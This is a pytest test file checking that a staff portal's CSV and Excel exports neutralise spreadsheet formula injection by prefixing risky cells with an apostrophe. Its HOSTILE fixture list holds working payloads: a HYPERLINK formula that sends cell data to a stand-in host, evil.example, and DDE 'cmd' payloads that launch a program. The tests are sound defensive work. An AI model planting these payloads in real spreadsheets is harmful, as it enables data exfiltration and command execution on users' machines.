"""Exports neutralise every cell a spreadsheet would run (D36)."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from portal.staff.exports import csv_bytes, neutralise, xlsx_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"開く")',
    "+81-90-1234-5678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HEADER = ["受付番号", "事業者名", "件数", "日付"]


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_text_is_neutralised(value):
    assert neutralise(value) == "'" + value


def test_plain_values_are_left_alone():
    assert [neutralise(v) for v in ("架空商店", "03-1234-5678", 5, -3, 1.5, None)] == [
        "架空商店",
        "03-1234-5678",
        5,
        -3,
        1.5,
        None,
    ]


def test_csv_opens_in_excel_and_runs_nothing():
    data = csv_bytes(HEADER, [["7KQM-4XWD", value, 1, date(2020, 6, 15)] for value in HOSTILE])
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == HEADER
    assert [row[1] for row in rows[1:]] == ["'" + value for value in HOSTILE]
    assert rows[1][3] == "2020-06-15"


def test_xlsx_holds_text_not_formulas():
    data = xlsx_bytes(
        "6月15日の予約", HEADER, [["7KQM-4XWD", value, 1, date(2020, 6, 15)] for value in HOSTILE]
    )
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    # XML turns a stored CR into LF on reading; the apostrophe still leads.
    assert [c.value for c in cells] == ["'" + value.replace("\r", "\n") for value in HOSTILE]
    assert all(c.data_type == "s" for c in cells)
    assert sheet.cell(row=2, column=3).value == 1 and sheet.title == "6月15日の予約"
